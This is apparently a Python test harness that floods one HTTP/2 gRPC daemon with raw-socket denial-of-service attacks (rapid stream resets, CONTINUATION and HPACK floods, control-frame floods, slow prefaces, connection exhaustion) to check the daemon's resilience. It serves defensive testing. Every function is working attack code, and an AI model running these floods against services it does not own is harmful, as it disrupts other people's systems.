"""Attacks on one daemon's address with raw sockets, for test_flood.py and for `make test-flood`.

Each attack is a function (address, until): it keeps one connection busy with it until that moment, connecting again when
it is cut off, and returns how often that was. The HTTP/2 here is only what the attacks need.
"""
import select
import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
BURST = 2000  # frames written at once
TLS = None  # an ssl.SSLContext: all this happens behind a handshake
LATER = BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(text):
    return bytes([len(text)]) + text


def first_block(path):
    """A request's headers; what is new in them goes into HPACK's table."""
    return (b"\x83\x86\x44" + literal(path) + b"\x41" + literal(b"x") + b"\x5f" + literal(b"application/grpc") +
            b"\x40" + literal(b"te") + literal(b"trailers"))


def compressed_block(path):
    return first_block(path) + b"\x40" + literal(b"grpc-encoding") + literal(b"gzip")


NEXT_BLOCK = b"\x83\x86\xc1\xc0\xbf\xbe"  # the same, from the table: 15 bytes a stream


def connect(address, timeout=5):
    if address.startswith("unix:"):
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(timeout)
        s.connect(address[len("unix:"):])
        return s
    host, port = address.rsplit(":", 1)
    s = socket.create_connection((host, int(port)), timeout=timeout)
    return TLS.wrap_socket(s) if TLS else s


class Cut(Exception):
    """The daemon closed the connection."""


class Attacker:
    """One connection: begins HTTP/2, and writes while it throws away what comes back."""

    def __init__(self, address, until, ack=True, read=True):
        self.until, self.read = until, read
        self.s = connect(address)
        self.s.setblocking(False)
        self.stream = -1
        self.write(PREFACE + frame(SETTINGS, 0, 0) + (frame(SETTINGS, ACK, 0) if ack else b""))

    def write(self, data):
        left = memoryview(data)
        while len(left) and time.monotonic() < self.until:
            readable, writable, _ = select.select([self.s] if self.read else [], [self.s], [], 0.2)
            try:
                if readable and not self.s.recv(1 << 16):
                    raise Cut
                if writable:
                    left = left[self.s.send(left[:1 << 16]):]
            except LATER:
                continue
            except OSError as e:
                raise Cut from e

    def rest(self, seconds):
        """Writes nothing for so long."""
        until = time.monotonic() + seconds
        while (left := until - time.monotonic()) > 0:
            try:
                if select.select([self.s], [], [], left)[0] and not self.s.recv(1 << 16):
                    raise Cut
            except LATER:
                continue
            except OSError as e:
                raise Cut from e

    def open(self, path, flags=END_HEADERS):
        """The bytes that open one stream more."""
        self.stream += 2
        return frame(HEADERS, flags, self.stream, first_block(path) if self.stream == 1 else NEXT_BLOCK)


class Filler:
    """One connection with one call, whose message never ends: it says that it has `length` bytes."""

    def __init__(self, address, path, length):
        self.s, self.buffer, self.sent = connect(address), b"", 0
        self.room = {0: 65535, 1: 65535}  # the daemon's windows
        self.initial = 65535
        self.write(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0) + frame(HEADERS, END_HEADERS, 1, first_block(path)))
        self.data(b"\0" + struct.pack(">I", length))

    def write(self, data):
        try:
            self.s.sendall(data)
        except OSError as e:
            raise Cut from e

    def data(self, payload):
        self.write(frame(DATA, 0, 1, payload))
        self.sent += len(payload)
        for stream in self.room:
            self.room[stream] -= len(payload)

    def fill(self, most):
        """Sends as the windows allow, until so many bytes have left."""
        part = b"x" * (1 << 14)
        while self.sent < most:
            if min(self.room.values()) >= len(part):
                self.data(part)
            else:
                self.read()

    def read(self):
        try:
            data = self.s.recv(1 << 16)
        except ConnectionError as e:
            raise Cut from e
        if not data:
            raise Cut
        self.buffer += data
        while len(self.buffer) >= 9 and len(self.buffer) >= 9 + (size := int.from_bytes(self.buffer[:3], "big")):
            kind, flags, stream = struct.unpack(">BBI", self.buffer[3:9])
            payload, self.buffer = self.buffer[9:9 + size], self.buffer[9 + size:]
            if kind == PING and not flags & ACK:
                self.write(frame(PING, ACK, 0, payload))
            elif kind == WINDOW_UPDATE:
                self.room[stream] += struct.unpack(">I", payload)[0]
            elif kind == SETTINGS and not flags & ACK:
                for value in (v for k, v in struct.iter_unpack(">HI", payload) if k == 4):
                    self.room[1] += value - self.initial
                    self.initial = value


def repeat(address, until, attack, **how):
    """Runs attack(attacker) on one connection after the other; how often one was cut."""
    cuts = 0
    while time.monotonic() < until:
        try:
            a = Attacker(address, until, **how)
            with a.s:
                while time.monotonic() < until:
                    attack(a)
        except Cut:
            cuts += 1
        except OSError:  # no connection: it is refused, or the backlog is full
            continue
    return cuts


WATCH = b"/hawk.v1.Hawk/Watch"


def headers(address, until, path=WATCH, **how):
    return repeat(address, until, lambda a: a.write(b"".join(a.open(path) for _ in range(BURST))), **how)


def headers_no_ack(address, until):
    return headers(address, until, ack=False)


def headers_no_read(address, until):
    return headers(address, until, read=False)


def headers_unknown(address, until):
    return headers(address, until, path=b"/nobody/Knows")


def reset(address, until):
    return repeat(address, until, lambda a: a.write(b"".join(
        a.open(WATCH) + frame(RST_STREAM, 0, a.stream, struct.pack(">I", 8)) for _ in range(BURST))))


def reset_nothing(address, until):
    """Streams that stay open, and a reset of stream 0, which is none, for each."""
    return repeat(address, until, lambda a: a.write(b"".join(
        a.open(WATCH) + frame(RST_STREAM, 0, 0, struct.pack(">I", 8)) for _ in range(100))))


def slow_reset(address, until):
    """As fast as it can without being cut off, or nearly."""
    def attack(a):
        a.write(b"".join(a.open(WATCH) + frame(RST_STREAM, 0, a.stream, struct.pack(">I", 8)) for _ in range(9)))
        a.rest(0.1)
    return repeat(address, until, attack)


def continuation(address, until):
    def attack(a):
        a.write(a.open(WATCH, flags=0))
        a.write(b"".join(frame(CONTINUATION, 0, a.stream, (b"\x40" + literal(b"a%d" % i) + literal(b"b" * 120)) * 4)
                         for i in range(BURST)))
    return repeat(address, until, attack)


def hpack(address, until):
    """A large header in the table, named again and again."""
    def attack(a):
        big = b"\x40" + literal(b"big") + b"\x7f\xb1\x1e" + b"v" * (127 + 0x31 + (0x1e << 7))
        a.write(a.open(WATCH, flags=0) + frame(CONTINUATION, END_HEADERS, a.stream, big + b"\xbe" * 12000))
    return repeat(address, until, attack)


def frames(kind, flags=0, stream=0, payload=b""):
    burst = frame(kind, flags, stream, payload) * BURST
    return lambda address, until: repeat(address, until, lambda a: a.write(burst))


def empty_data(address, until):
    def attack(a):
        a.write(a.open(WATCH) + frame(DATA, 0, a.stream) * BURST)
    return repeat(address, until, attack)


def wait_answer(a):
    """Until something has come that ends the newest stream."""
    end, buffer = struct.pack(">I", a.stream), b""
    while time.monotonic() < a.until:
        if select.select([a.s], [], [], 0.2)[0]:
            data = a.s.recv(1 << 16)
            if not data:
                raise Cut
            buffer += data
            if end in buffer:
                return


def refused(address, until, n):
    """Connection after connection, each with n calls that are refused, whose answers nobody reads."""
    def attack(a):
        a.write(b"".join(a.open(b"/nobody/Knows", flags=END_HEADERS | END_STREAM) for _ in range(n)))
        raise Cut
    return repeat(address, until, attack, read=False)


def crowd(address, until):
    """Connections with a refused call that stay, the newest 500 of them."""
    kept = []
    while time.monotonic() < until:
        try:
            a = Attacker(address, until)
            a.write(a.open(b"/nobody/Knows"))
            kept.append(a.s)
        except (Cut, OSError):
            pass
        for s in kept[:-500]:
            s.close()
        kept[:-500] = []
    return 0


def empty_data_refused(address, until):
    """A refused call, and its end again and again."""
    def attack(a):
        if a.stream < 0:
            a.write(a.open(b"/nobody/Knows"))
            wait_answer(a)
        a.write(frame(DATA, END_STREAM, a.stream) * BURST)
    return repeat(address, until, attack)


def messages(body):
    """A Session whose messages say nothing, each in a frame of its own."""
    burst = frame(DATA, 0, 1, b"\0" + struct.pack(">I", len(body)) + body) * BURST

    def attack(a):
        if a.stream < 0:
            a.write(a.open(b"/hawk.v1.Hawk/Session"))
        a.write(burst)
    return lambda address, until: repeat(address, until, attack)


def huge_frame(address, until):
    return repeat(address, until, lambda a: a.write(b"\xff\xff\xff\0\0\0\0\0\1" + b"x" * (1 << 20)))


def garbage(address, until):
    cuts = 0
    while time.monotonic() < until:
        try:
            with connect(address) as s:
                while True:
                    s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" * 1000)
                    if not s.recv(1 << 16):
                        break
        except OSError:
            pass
        cuts += 1
    return cuts


def slow_preface(address, until):
    """A byte of the preface now and then."""
    cuts = 0
    while time.monotonic() < until:
        try:
            with connect(address) as s:
                for byte in PREFACE:
                    if time.monotonic() >= until:
                        return cuts
                    s.sendall(bytes([byte]))
                    if select.select([s], [], [], 1)[0] and not s.recv(1 << 16):
                        break
        except OSError:
            pass
        cuts += 1
    return cuts


def connections(address, until):
    """Connects and leaves, without a word."""
    n = 0
    while time.monotonic() < until:
        try:
            connect(address).close()
            n += 1
        except OSError:
            continue
    return n


ATTACKS = {  # the first ones break no rule of one connection: afterwards its address' others would have less
    "refused calls on connection after connection": lambda address, until: refused(address, until, 1000),
    "the same, eight each": lambda address, until: refused(address, until, 8),
    "connections that stay": crowd,
    "HEADERS": headers,
    "HEADERS, SETTINGS never acknowledged": headers_no_ack,
    "HEADERS, answers never read": headers_no_read,
    "HEADERS, no such method": headers_unknown,
    "streams opened and reset": reset,
    "the same, slowly": slow_reset,
    "streams opened, and stream 0 reset": reset_nothing,
    "CONTINUATION": continuation,
    "HPACK references": hpack,
    "PING": frames(PING, payload=b"12345678"),
    "SETTINGS": frames(SETTINGS, payload=struct.pack(">HI", 4, 65535)),
    "PRIORITY": frames(PRIORITY, stream=1, payload=b"\0\0\0\0\1"),
    "WINDOW_UPDATE": frames(WINDOW_UPDATE, payload=struct.pack(">I", 1)),
    "unknown frames": frames(200, payload=b""),
    "empty DATA": empty_data,
    "empty DATA after a refusal": empty_data_refused,
    "messages of a Session that carry nothing": messages(b""),
    "messages of a Session that ask for nothing": messages(b"\x18\0"),
    "frames of 16 MiB": huge_frame,
    "no HTTP/2": garbage,
    "a slow preface": slow_preface,
    "connections without a word": connections,
}
